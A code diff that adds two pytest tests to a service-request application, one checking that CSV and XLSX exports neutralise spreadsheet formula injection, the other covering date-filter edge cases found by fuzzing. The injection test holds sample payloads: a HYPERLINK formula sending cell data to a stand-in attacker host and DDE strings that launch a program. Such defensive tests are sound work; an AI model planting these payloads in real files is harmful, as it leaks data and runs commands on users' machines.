@@ -544,6 +544,43 @@ def test_xlsx_export_drops_control_characters(world):
     assert "打印机卡纸" in [cell.value for cell in sheet[2]]
 
 
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_exported_text_never_becomes_a_spreadsheet_formula(world, file_format):
+    """CSV injection: a title a spreadsheet would run (=HYPERLINK, +cmd, @SUM, -2+3) is
+    exported as text with a leading apostrophe; ordinary text is untouched."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    titles = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
+              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "打印机卡纸"]
+    for title in titles:
+        world.request("requester_a", title=title)
+    response = world.client("agent").get(reverse("api:servicerequest-export"),
+                                          {"file_format": file_format})
+    assert response.status_code == 200
+    if file_format == "csv":
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    else:
+        rows = [[cell.value for cell in row]
+                for row in load_workbook(io.BytesIO(response.content)).active.iter_rows()]
+    column = rows[0].index(next(h for h in rows[0] if h in ("title", "标题")))
+    exported = sorted(row[column] for row in rows[1:])
+    assert exported == sorted(["'" + t for t in titles[:4]] + [titles[4]])
+
+
+def test_date_filters_compare_in_utc_and_refuse_what_no_database_holds(world):
+    """Found by fuzzing: an offset beyond ±15:59 (valid ISO 8601, refused by
+    PostgreSQL) was a 500, and so was an instant before year 1 in UTC."""
+    world.request("requester_a")
+    client = world.client("agent")
+    response = client.get(LIST, {"created_after": "0222-02-18T09:58:36-17:31"})
+    assert response.status_code == 200 and len(response.json()["results"]) == 1
+    response = client.get(LIST, {"created_before": "0001-01-01T00:00:00+05:00"})
+    assert response.status_code == 400 and "created_before" in response.json()
+
+
 # --- Schema and docs ---------------------------------------------------------------------------
 
 
